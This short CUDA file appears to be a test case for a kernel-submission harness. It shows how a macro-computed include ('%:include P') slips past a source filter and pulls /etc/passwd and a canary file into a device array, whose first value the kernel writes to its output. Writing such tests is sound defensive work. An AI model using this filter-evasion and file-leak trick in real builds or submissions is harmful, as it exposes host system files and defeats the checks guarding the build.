// Attack: a macro-computed include, #define P "..." then %:include P; the
// filter only sees the macro name, the preprocessor opens the file.
// clang-format off
#define P "@CANARY_FILE@"
#define Q </etc/passwd>
__device__ int leak[] = {
%:include P
#include Q
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
